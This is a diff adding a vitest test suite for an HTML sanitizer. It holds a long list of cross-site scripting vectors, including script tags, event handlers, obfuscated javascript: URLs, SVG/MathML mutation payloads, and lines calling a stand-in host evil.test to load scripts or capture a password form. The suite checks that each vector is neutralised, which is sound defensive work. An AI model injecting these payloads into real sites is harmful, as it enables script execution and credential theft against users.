@@ -1,0 +1,195 @@
+import { Window } from 'happy-dom'
+import { describe, expect, test } from 'vitest'
+import { sanitize } from './sanitize.ts'
+
+const tags = 'P BR H2 H3 H4 STRONG B EM I U S UL OL LI BLOCKQUOTE HR A IMG CODE PRE'.split(' ')
+const attributes: Record<string, string[]> = { A: ['href', 'rel'], IMG: ['src', 'alt', 'width', 'height'] }
+const picture = `/media/${'a'.repeat(32)}-800x400/800.webp`
+
+/** What a browser would make of the HTML that must not be there; empty when it is safe. */
+function dangers(html: string): string[] {
+  const { document } = new Window({
+    url: 'https://gille.example/',
+    settings: { disableJavaScriptEvaluation: true },
+  })
+  document.body.innerHTML = html
+  return [...document.body.querySelectorAll('*')].flatMap((element) => {
+    const name = element.tagName
+    const found = tags.includes(name) ? [] : [`<${name}>`]
+    for (const { name: attribute, value: given } of element.attributes) {
+      const value = given ?? ''
+      if (!attributes[name]?.includes(attribute)) found.push(`${name} ${attribute}`)
+      const scheme = attribute === 'href' ? /^(https?:\/\/|mailto:|tel:|#|\/(?![/\\\s]))/i : null
+      if (scheme && !scheme.test(value)) found.push(`href ${value}`)
+      if (attribute === 'src' && !/^\/media\/[\w-]+\/\d+\.webp$/.test(value)) found.push(`src ${value}`)
+    }
+    return found
+  })
+}
+
+const vectors = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script/x>alert(1)</script\n>',
+  '<script>alert(1)',
+  '</script><script>alert(1)</script>',
+  '<script type="application/json">{"x":"</script><script>alert(1)</script>"}',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)"//>',
+  '<img/src=x/onerror=alert(1)>',
+  '<img src=x onload\n=\nalert(1)>',
+  `<img src="${picture}" onload=alert(1)>`,
+  `<img src="${picture}" srcset="//evil.test/x 2x">`,
+  '<img src="javascript:alert(1)">',
+  '<img src="https://evil.test/pixel.gif">',
+  '<img src="//evil.test/pixel.gif">',
+  '<img src="/media/../api/posts/">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<img src="/media/x/1.webp" style="position:fixed">',
+  '<image src=x onerror=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<a href="java&Tab;script&colon;alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="\u2028javascript:alert(1)">x</a>',
+  '<a href="javascript&#58;alert(1)">x</a>',
+  '<a href="javascript&#x3a;alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="//evil.test">x</a>',
+  '<a href="\\\\evil.test">x</a>',
+  '<a href="/\\evil.test">x</a>',
+  '<a href="/\t/evil.test">x</a>',
+  '<a href="/\n\r/evil.test">x</a>',
+  '<a href="/&#9;/evil.test">x</a>',
+  '<a href="ht\ntps://a.se">x</a>',
+  '<a href="">x</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="blob:https://gille.example/x">x</a>',
+  '<a href="ftp://evil.test">x</a>',
+  '<a href="https://a.se" onclick="alert(1)" onmouseover=alert(1)>x</a>',
+  '<a href="https://a.se" target="_blank" ping="//evil.test" download>x</a>',
+  '<a href=https://a.se style=color:red class=x id=y name=z>x</a>',
+  '<a xlink:href="javascript:alert(1)">x</a>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><set attributeName=href to=javascript:alert(1)>',
+  '<svg><use href="data:image/svg+xml,x#y"></use></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<style>@import "//evil.test/x.css"; *{background:url(//evil.test)}</style>',
+  '<style><!--</style><script>alert(1)//--></script>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<p style="width:expression(alert(1))" class="x" id="root">x</p>',
+  '<link rel=stylesheet href=//evil.test/x.css>',
+  '<link rel=import href=x>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<meta http-equiv="Set-Cookie" content="a=b">',
+  '<base href="//evil.test/">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src=//evil.test>',
+  '<frameset><frame src=//evil.test></frameset>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<applet code=x></applet>',
+  '<form action="//evil.test"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)><option>x</select>',
+  '<textarea></textarea><script>alert(1)</script>',
+  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
+  '<button onclick=alert(1)>x</button>',
+  '<video><source onerror="alert(1)"></video>',
+  '<video src=x onerror=alert(1) poster=javascript:alert(1)>',
+  '<audio src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<body onload=alert(1)>',
+  '<html xmlns:x="x" onclick=alert(1)>',
+  '<div onpointerenter=alert(1) contenteditable>x</div>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
+  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '<!-- --!><img src=x onerror=alert(1)> -->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml version="1.0"?><script>alert(1)</script>',
+  '<!DOCTYPE x [<!ENTITY y "z">]><p>&y;</p>',
+  '<p><a href="https://a.se"><a href="javascript:alert(1)">x</a></a></p>',
+  '<p title="a>b" onclick="alert(1)">x</p>',
+  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
+  '<p "onclick=alert(1)">x</p>',
+  '<p\u000conclick=alert(1)>x</p>',
+  '<p/onclick=alert(1)/>x',
+  '<<p onclick=alert(1)>>x',
+  '<img alt="`onerror=alert(1)//`" src=x>',
+  '<\u0000script>alert(1)</script>',
+  '<custom-element onclick=alert(1)>x</custom-element>',
+  '<slot name=x></slot><portal src=x>',
+  '<a href="https://a.se"><img src=x onerror=alert(1)></a>',
+  '<table background="javascript:alert(1)"><td background=x>x</table>',
+  '<li><script>alert(1)</script><ul><li onclick=alert(1)>x',
+  '<a href="&#x0000106&#x0000097vascript:alert(1)">x</a>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+]
+
+describe('a hostile text', () => {
+  test.each(vectors)('%s is harmless afterwards, and stays as it is when written again', (html) => {
+    const safe = sanitize(html)
+    expect(dangers(safe)).toEqual([])
+    expect(dangers(`<p>${safe}</p><ul><li>${safe}`)).toEqual([])
+    expect(sanitize(safe)).toBe(safe)
+    expect(safe.toLowerCase()).not.toMatch(/<script|<style|<svg|<math|<iframe/)
+  })
+
+  test('would be found by this test if it came through', () => {
+    const found = vectors.filter((html) => dangers(html).length > 0)
+    expect(found.length).toBeGreaterThan(85)
+  })
+})
+
+describe('what an administrator writes', () => {
+  test.each([
+    '<h2>Rubrik</h2><p>Text med <strong>fet</strong>, <em>kursiv</em>, <u>under</u> och <s>över</s>.</p>',
+    '<ul><li>ett</li><li>två</li></ul><ol><li>1</li></ol>',
+    '<blockquote><p>Citat</p></blockquote><hr /><pre><code>a &lt; b</code></pre>',
+    '<p>rad<br />rad</p>',
+    `<p><img src="${picture}" alt="Bild" width="800" height="400" /></p>`,
+    '<p>50 &amp; 60 &lt; 70 "citat" å ä ö 🍺</p>',
+    '<p><a href="https://example.se/?a=1&amp;b=2#c" rel="noopener">länk</a></p>',
+    '<p><a href="mailto:a@b.se" rel="noopener">mejl</a> <a href="tel:+4670" rel="noopener">ring</a></p>',
+    '<p><a href="/om-oss" rel="noopener">om oss</a></p>',
+    'Bara text',
+  ])('%s stays as it is', (html) => {
+    expect(sanitize(html)).toBe(html)
+  })
+
+  test('a heading of the first rank becomes one of the second, and a link is told not to open back', () => {
+    expect(sanitize('<h1>Rubrik</h1>')).toBe('<h2>Rubrik</h2>')
+    expect(sanitize('<a href="https://a.se">x</a>')).toBe('<a href="https://a.se" rel="noopener">x</a>')
+  })
+
+  test('the text within a tag that is dropped stays, but not that of a script or a style', () => {
+    expect(sanitize('<div><font color=red>hej</font></div>')).toBe('hej')
+    expect(sanitize('<script>hej</script><style>hej</style><textarea>hej</textarea>')).not.toContain('hej')
+  })
+})
